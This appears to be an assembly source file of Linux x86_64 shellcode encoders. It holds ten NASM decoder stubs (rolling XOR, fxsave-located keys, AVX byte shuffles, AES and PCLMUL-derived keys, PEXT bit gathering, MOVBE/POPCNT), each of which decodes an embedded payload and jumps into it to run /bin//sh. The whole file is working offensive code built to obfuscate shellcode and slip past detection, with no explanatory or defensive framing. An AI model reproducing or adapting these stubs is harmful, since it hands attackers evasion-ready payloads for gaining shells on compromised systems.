; The same for 64 bits: AVX and AES instructions, bits gathered and scattered, what fxsave leaves, keys that feed back.

;= before_itself_64 64 | linux x86_64 | execute /bin//sh
first:	xor rcx, rcx
	sub rcx, -(LENGTH64 / 8)
	lea rax, [rel first]
	mov rbx, 0x91a3f7c25d0e8846
next:	xor [rax + payload - first], rbx
	sub rax, -8
	loop next
payload:	QUADS c ^ 0x91a3f7c25d0e8846

;= sgn64 64 | linux x86_64 | execute /bin//sh
	push rax
	push rbx
	push rcx
	push rdx
	push rsi
	push rdi
	pushfq
	call behind
code:
%assign key 0x6b
%assign j LENGTH64 - 1
%rep LENGTH64
%substr letter PAYLOAD64 j + 1
%assign w%[j] letter ^ key
%assign key (key + letter) & 0xff
%assign j j - 1
%endrep
%assign j 0
%rep LENGTH64
	db w%[j]
%assign j j + 1
%endrep
behind:	pop r11
	mov r9d, LENGTH64
	mov r10b, 0x6b
next:	xor [r11 + r9 - 1], r10b
	add r10b, [r11 + r9 - 1]
	dec r9
	jnz next
	jmp r11

;= fxsave64_key 64 | linux x86_64 | execute /bin//sh
	fldz
	sub rsp, 0x210
	and rsp, -16
	fxsave64 [rsp]
	mov rsi, [rsp + 8]
	lea rsi, [rsi + payload - $$]
	push LENGTH64 / 8
	pop rcx
	mov rax, 0x1122334455667788
next:	xor [rsi + rcx * 8 - 8], rax
	loop next
	jmp rsi
payload:	QUADS c ^ 0x1122334455667788

;= unrolled_avx 64 | linux x86_64 | execute /bin//sh
	lea rsi, [rel payload]
	vmovdqu ymm0, [rsi]
	vpbroadcastb ymm1, [rel key]
	vpxor ymm0, ymm0, ymm1
	vmovdqu [rsi], ymm0
	vzeroupper
	jmp short payload
key:	db 0x66
payload:	ENCODE64 c ^ 0x66

;= avx_shuffle_loop 64 | linux x86_64 | execute /bin//sh
	lea rsi, [rel payload]
	vmovdqa xmm2, xmm2
	vmovdqu xmm2, [rel order]
	push 2
	pop rcx
next:	vmovdqu xmm0, [rsi]
	vpshufb xmm0, xmm0, xmm2
	vmovdqu [rsi], xmm0
	add rsi, 16
	dec ecx
	jnz next
	jmp short payload
order:	db 15,14,13,12,11,10,9,8,7,6,5,4,3,2,1,0
payload:
%assign b 0
%rep 2
%assign k 15
%rep 16
%assign n b * 16 + k
%if n < LENGTH64
%substr letter PAYLOAD64 n + 1
	db letter
%else
	db 0x90
%endif
%assign k k - 1
%endrep
%assign b b + 1
%endrep

;= aes_round 64 | linux x86_64 | execute /bin//sh
	lea rsi, [rel payload]
	movdqu xmm1, [rel key]
	pxor xmm2, xmm2
	aesimc xmm3, xmm1
	aesenc xmm2, xmm1
	movdqu xmm4, [rsi]
	pxor xmm4, xmm2
	pxor xmm4, xmm2
	movdqu [rsi], xmm4
	push LENGTH64
	pop rcx
	movdqu xmm5, [rel key]
	aeskeygenassist xmm6, xmm5, 1
next:	xor byte [rsi + rcx - 1], 0x44
	loop next
	jmp short payload
key:	times 16 db 0
payload:	ENCODE64 c ^ 0x44

;= pclmul_key 64 | linux x86_64 | execute /bin//sh
	lea rsi, [rel payload]
	mov eax, 3
	movq xmm0, rax
	mov eax, 5
	movq xmm1, rax
	pclmulqdq xmm0, xmm1, 0
	movq rax, xmm0
	push LENGTH64
	pop rcx
next:	xor [rsi + rcx - 1], al
	loop next
	jmp short payload
	times 4 db 0x90
payload:	ENCODE64 c ^ 15

;= two_halves_64_stack 64 | linux x86_64 | execute /bin//sh
	push rsp
	pop rdi
	sub rdi, 0x100
	and rdi, -16
	push rdi
	lea rsi, [rel payload]
	push LENGTH64
	pop rcx
next:	lodsb
	ror al, 3
	not al
	stosb
	loop next
	ret
payload:	ENCODE64 ((((~c) & 0xff) << 3) | (((~c) & 0xff) >> 5))

;= pext_bits 64 | linux x86_64 | execute /bin//sh
	lea rsi, [rel payload]
	lea rdi, [rel code]
	mov rbx, 0x5555555555555555
	push LENGTH64 / 4
	pop rcx
next:	lodsq
	pext rax, rax, rbx
	stosd
	loop next
	jmp short code
payload:
%assign j 0
%rep LENGTH64
%substr letter PAYLOAD64 j + 1
%assign c letter
%assign s 0
%assign k 0
%rep 8
%assign s s | (((c >> k) & 1) << (2 * k)) | ((((c >> k) & 1) ^ 1) << (2 * k + 1))
%assign k k + 1
%endrep
	dw s
%assign j j + 1
%endrep
code:	times LENGTH64 db 0xcc

;= movbe_popcnt 64 | linux x86_64 | execute /bin//sh
	lea rsi, [rel payload]
	lea rdi, [rel code]
	push LENGTH64 / 8
	pop rcx
next:	movbe rax, [rsi]
	popcnt rdx, rcx
	xor rax, rdx
	stosq
	lea rsi, [rsi + 8]
	loop next
	jmp short code
payload:
%assign i 0
%rep LENGTH64 / 8
%assign k 7
%assign n LENGTH64 / 8 - i
%assign p (n & 1) + ((n >> 1) & 1) + ((n >> 2) & 1)
%rep 8
%substr letter PAYLOAD64 i * 8 + k + 1
%if k == 0
	db letter ^ p
%else
	db letter
%endif
%assign k k - 1
%endrep
%assign i i + 1
%endrep
code:	times LENGTH64 db 0xcc
